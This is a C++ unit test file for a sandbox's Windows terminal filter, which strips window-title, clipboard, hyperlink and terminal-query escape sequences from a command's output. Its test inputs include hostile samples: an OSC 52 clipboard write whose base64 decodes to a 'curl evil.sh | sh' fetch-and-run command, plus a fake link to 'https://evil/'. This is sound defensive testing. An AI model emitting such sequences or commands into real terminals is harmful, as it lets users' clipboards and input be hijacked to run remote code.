// The streaming terminal filter of the Windows console relay: what draws
// the command's screen passes byte for byte, what acts beyond it (titles,
// the clipboard, answers typed into the input) is removed, and a sequence
// split across reads is judged whole.
#include <gtest/gtest.h>

#include <string>
#include <vector>

#include "sandbox/windows/terminal_filter.h"

namespace cordon::sandbox::windows {
namespace {

std::string Filter(std::string_view in, TerminalFilter* f = nullptr) {
  TerminalFilter own;
  TerminalFilter& filter = f != nullptr ? *f : own;
  std::string out;
  filter.Feed(in, &out);
  return out;
}

// `in` fed one byte per call: every split point at once.
std::string ByteByByte(std::string_view in, TerminalFilter* f) {
  std::string out;
  for (char c : in) f->Feed(std::string_view(&c, 1), &out);
  return out;
}

TEST(WindowsTerminalFilter, TextColoursAndCursorPass) {
  const std::vector<std::string> kept = {
      "plain text\r\n",
      "tab\there, bell\a, back\b",
      "\x1b[31mred\x1b[0m \x1b[1;38;2;255;0;0mtrue colour\x1b[m",
      "\x1b[2J\x1b[H\x1b[10;20H\x1b[K\x1b[?25l\x1b[?25h\x1b[?1049h\x1b[?1049l",
      "\x1b[?2004h\x1b[3 q\x1b[5;20r\x1b[s\x1b[u\x1b"
      "7\x1b"
      "8\x1bM\x1b(0qqq\x1b(B",
      "h\xc3\xa9llo \xe2\x82\xac \xf0\x9f\x98\x80 \xd8\xb9",  // é € 😀 Arabic
  };
  for (const std::string& s : kept) {
    TerminalFilter f;
    EXPECT_EQ(Filter(s, &f), s);
    EXPECT_EQ(f.removed().total(), 0U) << s;
    EXPECT_EQ(f.DescribeRemoved(), "");
    TerminalFilter split;
    EXPECT_EQ(ByteByByte(s, &split), s) << "split byte by byte";
  }
}

TEST(WindowsTerminalFilter, TitlesAndClipboardAreRemoved) {
  TerminalFilter f;
  EXPECT_EQ(Filter("a\x1b]0;pwned\x07"
                   "b\x1b]2;t\x1b\\c",
                   &f),
            "abc");
  EXPECT_EQ(f.removed().titles, 2U);
  EXPECT_EQ(Filter("x\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07y", &f), "xy");
  EXPECT_EQ(f.removed().clipboard, 1U);
  EXPECT_EQ(Filter("\x1b]8;;https://evil/\x1b\\docs\x1b]8;;\x1b\\", &f), "docs");
  EXPECT_EQ(f.removed().other, 2U);
  EXPECT_EQ(f.DescribeRemoved(),
            "5 terminal control sequences the command printed did not reach your terminal (2 "
            "window titles, 1 clipboard write, 2 others)");
}

TEST(WindowsTerminalFilter, SequencesSplitAcrossReadsAreJudgedWhole) {
  const std::string attack = "ok\x1b]52;c;ZWNobyBoaQ==\x1b\\\x1b[31mred\x1b]0;t\x07 end";
  TerminalFilter f;
  EXPECT_EQ(ByteByByte(attack, &f), "ok\x1b[31mred end");
  EXPECT_EQ(f.removed().clipboard, 1U);
  EXPECT_EQ(f.removed().titles, 1U);
  // Split at every point into two reads.
  for (size_t cut = 0; cut <= attack.size(); ++cut) {
    TerminalFilter g;
    std::string out;
    g.Feed(std::string_view(attack).substr(0, cut), &out);
    g.Feed(std::string_view(attack).substr(cut), &out);
    EXPECT_EQ(out, "ok\x1b[31mred end") << "cut at " << cut;
  }
}

TEST(WindowsTerminalFilter, RequestsTheTerminalAnswersAreRemoved) {
  // Each makes a terminal type into the input (title report, cursor
  // position, device attributes) or act on itself (resize, reset).
  for (const std::string s :
       {"\x1b[21t", "\x1b[8;100;100t", "\x1b[6n", "\x1b[c", "\x1b[>c",
        "\x1b"
        "c",
        "\x1bP$q\"p\x1b\\", "\x1b_apc\x1b\\", "\x1b^pm\x1b\\", "\x1b%@", "\x1b G", "\x1b[1$p",
        "\xc2\x9b"
        "6n"}) {
    TerminalFilter f;
    const std::string out = Filter("<" + s + ">", &f);
    EXPECT_EQ(out.find('\x1b'), std::string::npos) << "kept an escape of " << s;
    EXPECT_GE(f.removed().other, 1U) << s;
  }
  EXPECT_EQ(Filter("<\xc2\x9b"
                   "6n>"),
            "<6n>");  // the C1 CSI, not what follows
}

TEST(WindowsTerminalFilter, ControlsOtherThanLayoutAreRemoved) {
  TerminalFilter f;
  EXPECT_EQ(Filter(std::string("a\x00\x01\x0e\x0f\x7f"
                               "b",
                               7),
                   &f),
            "ab");
  EXPECT_EQ(f.removed().other, 5U);
}

TEST(WindowsTerminalFilter, CancelAndMalformedSequencesAreRemovedWhole) {
  EXPECT_EQ(Filter("a\x1b]0;title\x18"
                   "b"),
            "ab");  // CAN ends the OSC
  EXPECT_EQ(Filter("a\x1b[12\x1a"
                   "b"),
            "ab");                                                   // SUB ends the CSI
  EXPECT_EQ(Filter("a\x1b[1\x1b[31mb"), "a\x1b[31mb");               // ESC restarts
  EXPECT_EQ(Filter("a\x1b[1;?5mb"), "ab");                           // marker after a parameter
  EXPECT_EQ(Filter("a\x1b[" + std::string(100, '1') + "mb"), "ab");  // too long
  // An unterminated OSC keeps what follows, as the terminal would, and is
  // counted when the stream ends.
  TerminalFilter open;
  EXPECT_EQ(Filter("a\x1b]52;c;AAAA more", &open), "a");
  EXPECT_EQ(open.removed().clipboard, 0U);
  open.End();
  EXPECT_EQ(open.removed().clipboard, 1U);
}

TEST(WindowsTerminalFilter, BytesThatAreNotUtf8BecomeReplacementCharacters) {
  EXPECT_EQ(Filter("a\xff"
                   "b"),
            "a\xef\xbf\xbd"
            "b");
  EXPECT_EQ(Filter("a\xc0\xaf"
                   "b"),
            "a\xef\xbf\xbd\xef\xbf\xbd"
            "b");                                                               // overlong
  EXPECT_EQ(Filter("a\xed\xa0\x80"), "a\xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd");  // surrogate
  EXPECT_EQ(Filter("a\xe2\x82"
                   "b"),
            "a\xef\xbf\xbd"
            "b");  // cut short
}

TEST(WindowsTerminalFilter, LongPayloadsAreNotBuffered) {
  TerminalFilter f;
  std::string out;
  f.Feed("\x1b]52;c;", &out);
  for (int i = 0; i < 1000; ++i) f.Feed(std::string(4096, 'A'), &out);
  f.Feed(
      "\x07"
      "after",
      &out);
  EXPECT_EQ(out, "after");
  EXPECT_EQ(f.removed().clipboard, 1U);
}

}  // namespace
}  // namespace cordon::sandbox::windows
